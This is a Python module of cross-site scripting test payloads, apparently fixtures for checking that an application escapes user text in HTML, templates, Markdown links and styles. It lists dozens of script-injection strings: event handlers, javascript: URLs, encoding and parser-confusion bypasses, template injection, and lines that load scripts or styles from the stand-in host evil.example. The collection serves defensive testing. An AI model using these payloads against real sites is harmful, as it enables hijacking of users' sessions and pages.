"""Texts that would run as scripts where text is taken for HTML, a template, a link or a style.

Every one that makes an element marks it with `data-xss`, so that it is found even where the content security
policy keeps it from running; `hit()` is what a script of theirs calls.
"""

from __future__ import annotations

PAYLOADS = (
    # Scripts.
    "<script data-xss>hit()</script>",
    "<ScRiPt data-xss>hit()</sCrIpT>",
    "<script data-xss src=//evil.example/x.js></script>",
    "<script data-xss src=data:text/javascript,hit()></script>",
    "<scr<script>ipt data-xss>hit()</scr</script>ipt>",
    "</script><script data-xss>hit()</script>",
    "<script data-xss type=module>hit()</script>",
    # Elements that act by themselves.
    "<img data-xss src=x onerror=hit()>",
    "<img data-xss src=/icon.svg onload=hit()>",
    "<img data-xss src=//evil.example/pixel.gif>",
    "<svg data-xss onload=hit()>",
    "<svg data-xss><animate attributeName=x dur=1s onbegin=hit()>",
    "<svg data-xss><script>hit()</script></svg>",
    "<svg data-xss><use href=data:image/svg+xml,<svg/onload=hit()>#x></svg>",
    "<body data-xss onload=hit()>",
    "<details data-xss open ontoggle=hit()>",
    "<video data-xss><source onerror=hit()></video>",
    "<audio data-xss src=x onerror=hit()></audio>",
    "<input data-xss autofocus onfocus=hit()>",
    "<select data-xss autofocus onfocus=hit()></select>",
    "<textarea data-xss autofocus onfocus=hit()></textarea>",
    "<style data-xss>@keyframes x{}</style><p style=animation-name:x onanimationstart=hit()>",
    "<marquee data-xss onstart=hit()>x</marquee>",
    "<iframe data-xss src=javascript:parent.hit()></iframe>",
    "<iframe data-xss srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data-xss data=javascript:hit()></object>",
    "<embed data-xss src=javascript:hit()>",
    "<link data-xss rel=stylesheet href=//evil.example/x.css>",
    "<meta data-xss http-equiv=refresh content=0;url=javascript:hit()>",
    "<base data-xss href=//evil.example/>",
    "<form data-xss action=javascript:hit()><button>x</button></form>",
    "<button data-xss formaction=javascript:hit() form=x>x</button>",
    "<math data-xss><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<noscript><p data-xss title='</noscript><img src=x onerror=hit()>'>",
    "<template data-xss><img src=x onerror=hit()></template>",
    "<plaintext data-xss>",
    # Out of an attribute, a comment, a text area, a title.
    '"><img data-xss src=x onerror=hit()>',
    "'><img data-xss src=x onerror=hit()>",
    '" autofocus onfocus=hit() data-xss="',
    "' onpointerenter=hit() data-xss='",
    "x` onmouseover=hit() data-xss=`",
    "--><img data-xss src=x onerror=hit()><!--",
    "</textarea><img data-xss src=x onerror=hit()>",
    "</title><img data-xss src=x onerror=hit()>",
    "]]><img data-xss src=x onerror=hit()>",
    # Written otherwise.
    "&lt;img data-xss src=x onerror=hit()&gt;",
    "&#60;img data-xss src=x onerror=hit()&#62;",
    "%3Cimg data-xss src=x onerror=hit()%3E",
    "\\u003cimg data-xss src=x onerror=hit()\\u003e",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "＜img data-xss src=x onerror=hit()＞",
    "<img/data-xss/src=x/onerror=hit()>",
    "\u202e<img data-xss src=x onerror=hit()>",
    # Links, plain and as Markdown.
    "javascript:hit()",
    "JaVaScRiPt:hit()//",
    "java\tscript:hit()",
    "data:text/html,<script data-xss>hit()</script>",
    "<a data-xss href=javascript:hit()>x</a>",
    "[x](javascript:hit())",
    "[x](<javascript:hit()>)",
    '![x](x"onerror="hit())',
    "<javascript:hit()>",
    "[x]: javascript:hit()\n\n[x]",
    # Templates, and the words of the interface.
    "{{constructor.constructor('hit()')()}}",
    "{{'xs' + 's9'}}",
    "${'xs' + 's9'}",
    "<p data-xss v-html=\"'<img src=x onerror=hit()>'\">",
    "@:shell.name {0} {n} | {name}",
    "%(name)s %s {0!r}",
)

_ACTS = (
    "<img data-xss src=x onerror=hit()>",
    "<IMG data-xss SRC=x OnErRoR=hit()>",
    "<svg data-xss onload=hit()>",
    "<script data-xss>hit()</script>",
    "<iframe data-xss srcdoc='<script>parent.hit()</script>'></iframe>",
    "<details data-xss open ontoggle=hit()>x</details>",
    "<input data-xss autofocus onfocus=hit()>",
    "<a data-xss href=javascript:hit()>x</a>",
    "<x-y data-xss tabindex=1 onfocusin=hit()>x</x-y>",
    "<p data-xss style=background:url(//evil.example/p.gif)>x</p>",
)
# Out of where a text may stand, and back into it.
_AROUND = (
    ('">', '<a b="'),
    ("'>", "<a b='"),
    ("x>", ""),
    ("</style>", "<style>"),
    ("</script>", "<script>"),
    ("</option></select>", ""),
    ("</svg>", "<svg>"),
    ("</math>", ""),
    ("<!--x-->", "<!--"),
    ("<![CDATA[", "]]>"),
    ("**bold** `code` ", " | a | b |"),
    ("> ", "\u2028"),
    ("\u200b<", ">"),
)
# The same in other surroundings: for the texts of lines, of which there may be many.
SURROUNDED = tuple(f"{before}{act}{after}" for before, after in _AROUND for act in _ACTS)
